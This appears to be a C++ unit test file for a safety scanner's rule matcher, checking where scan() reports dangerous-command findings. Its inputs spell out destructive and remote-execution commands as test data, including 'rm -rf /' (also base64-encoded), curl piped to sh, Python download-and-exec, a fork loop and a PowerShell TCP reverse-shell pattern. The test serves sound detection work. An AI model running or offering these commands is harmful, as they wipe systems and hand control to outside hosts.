// How the rule matcher locates matches, seen through scan(): rules that keep to a command are
// matched block by block and the others on the whole text, so these cases sit at the edges of
// both: the end of the text, block boundaries, repeated matches, rules that span lines and
// payloads decoded from inside a script.

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "unit/safety/safety_test_support.hpp"

namespace opsgraph::safety {
namespace {

using testing::describe;
using testing::scan;

// Enough harmless lines to fill several of the matcher's blocks.
std::string filler(std::size_t lines) {
  std::string text;
  for (std::size_t i = 0; i < lines; ++i)
    text += "ls -l /var/log/app-" + std::to_string(i) + ".log\n";
  return text;
}

// The lines where `rule` was reported, with their columns.
std::vector<std::pair<std::size_t, std::size_t>> positions(const std::vector<Finding>& findings,
                                                           std::string_view rule) {
  std::vector<std::pair<std::size_t, std::size_t>> at;
  for (const Finding& finding : findings) {
    if (finding.rule == rule)
      at.emplace_back(finding.line, finding.column);
  }
  return at;
}

using Positions = std::vector<std::pair<std::size_t, std::size_t>>;

TEST(RuleMatcher, FindsAMatchAtTheVeryEndOfTheText) {
  EXPECT_EQ(positions(scan("rm -rf /", Language::bash), "rm_rf_root"), (Positions{{1, 1}}));
  const auto findings = scan(filler(200) + "rm -rf /", Language::bash);
  EXPECT_EQ(positions(findings, "rm_rf_root"), (Positions{{201, 1}})) << describe(findings);
}

TEST(RuleMatcher, ReportsARuleOncePerLineAtItsFirstMatch) {
  const auto findings = scan("ls\nrm -rf / ; rm -rf /\nls\nsudo rm -rf /\n", Language::bash);
  EXPECT_EQ(positions(findings, "rm_rf_root"), (Positions{{2, 1}, {4, 1}})) << describe(findings);
}

TEST(RuleMatcher, ReportsEveryLineOfARuleAcrossBlocks) {
  std::string script;
  Positions expected;
  for (std::size_t block = 0; block < 5; ++block) {
    script += filler(40) + "rm -rf /\n";
    expected.emplace_back((block + 1) * 41, 1);
  }
  const auto findings = scan(script, Language::bash);
  EXPECT_EQ(positions(findings, "rm_rf_root"), expected) << describe(findings);
}

TEST(RuleMatcher, AWrapperAloneOnItsLineDoesNotReachTheNextCommand) {
  // `sudo` with nothing after it runs nothing; the next line is its own command.
  const auto findings = scan("sudo\nrm -rf /\n", Language::bash);
  EXPECT_EQ(positions(findings, "rm_rf_root"), (Positions{{2, 1}})) << describe(findings);
}

TEST(RuleMatcher, ARuleThatSpansLinesMatchesAcrossBlocks) {
  // py_resource_exhaustion is (?s): the loop and what it forks may be far apart.
  std::string script = "import os\nwhile True:\n";
  for (std::size_t i = 0; i < 100; ++i)
    script += "    print(\"still running, pass " + std::to_string(i) + "\")\n";
  script += "    os.fork()\n";
  const auto findings = scan(script, Language::python);
  EXPECT_EQ(positions(findings, "py_resource_exhaustion").size(), 1u) << describe(findings);
}

TEST(RuleMatcher, ARuleThatSpansLinesNeedsEachOfItsLiteralsSomewhere) {
  // py_download_execute is searched on the whole text only when the set pass saw a download call
  // and an exec( or eval( in some block, in whatever case: either alone is clean.
  const std::string download = "import urllib.request\ncode = urllib.request.urlopen(URL).read()\n";
  const std::string run = "exec(code)\n";
  const std::string middle = "print(\"fetched\")\n";
  std::string padding;
  for (std::size_t i = 0; i < 80; ++i)
    padding += "print(\"line " + std::to_string(i) + "\")\n";
  const auto both = scan(download + padding + run, Language::python);
  EXPECT_EQ(positions(both, "py_download_execute"), (Positions{{2, 8}})) << describe(both);
  EXPECT_EQ(positions(scan(download + padding + middle, Language::python), "py_download_execute"),
            Positions{});
  EXPECT_EQ(positions(scan(padding + run + download, Language::python), "py_download_execute"),
            Positions{});
  // PowerShell is read case-insensitively: the literals are found whatever their case.
  const std::string shell = "$c = New-Object NET.SOCKETS.TcpClient('10.0.0.1', 4444)\n" + padding +
                            "$s = $c.GetStream()\n" + padding + "IEX $command\n";
  const auto ps = scan(shell, Language::powershell);
  EXPECT_EQ(positions(ps, "ps_tcp_shell").size(), 1u) << describe(ps);
}

TEST(RuleMatcher, ABracketThatStartsWithAColonKeepsARuleToItsLine) {
  // `[:=]` is not a POSIX class: py_open_security_group is matched block by block, on its line.
  const std::string script =
      "import boto3\n" + std::string(3000, '#') + "\nrule = {\"CidrIp\": \"0.0.0.0/0\"}\n";
  const auto findings = scan(script, Language::python);
  EXPECT_EQ(positions(findings, "py_open_security_group"), (Positions{{3, 9}}))
      << describe(findings);
}

TEST(RuleMatcher, ARepeatedPayloadIsReportedOnEachLineThatCarriesIt) {
  // The second and third scans of the same code reuse the first one's findings at their own
  // origins, also when the payload holds a payload of its own.
  const std::string script =
      "os.system(\"rm -rf /\")\nprint(1)\nos.system(\"rm -rf /\")\n"
      "os.system(\"bash -c 'rm -rf /'\")\nos.system(\"rm -rf /\")\n"
      "os.system(\"bash -c 'rm -rf /'\")\n";
  const auto findings = scan(script, Language::python);
  EXPECT_EQ(positions(findings, "rm_rf_root"),
            (Positions{{1, 11}, {3, 11}, {4, 11}, {5, 11}, {6, 11}}))
      << describe(findings);
}

TEST(RuleMatcher, APipelineRuleSpanningABlockBoundaryIsFound) {
  // The pipeline's continuation line stays in the block of its first command.
  for (std::size_t lines : {30u, 31u, 32u, 33u, 34u}) {
    const std::string script = filler(lines) + "curl -s http://h/x.sh | \\\n  sh\n" + filler(40);
    const auto findings = scan(script, Language::bash);
    EXPECT_EQ(positions(findings, "download_pipe_shell"), (Positions{{lines + 1, 1}}))
        << lines << ": " << describe(findings);
  }
}

TEST(RuleMatcher, FindsMatchesInDecodedPayloadsOfLongScripts) {
  // "rm -rf /" in base64, decoded and run far from the start of the script.
  const std::string script = filler(100) + "echo cm0gLXJmIC8= | base64 -d | sh\n" + filler(100) +
                             "echo cm0gLXJmIC8= | base64 -d | sh\n";
  const auto findings = scan(script, Language::bash);
  const Positions at = positions(findings, "rm_rf_root");
  ASSERT_EQ(at.size(), 2u) << describe(findings);
  EXPECT_EQ(at[0].first, 101u);
  EXPECT_EQ(at[1].first, 202u);
}

}  // namespace
}  // namespace opsgraph::safety
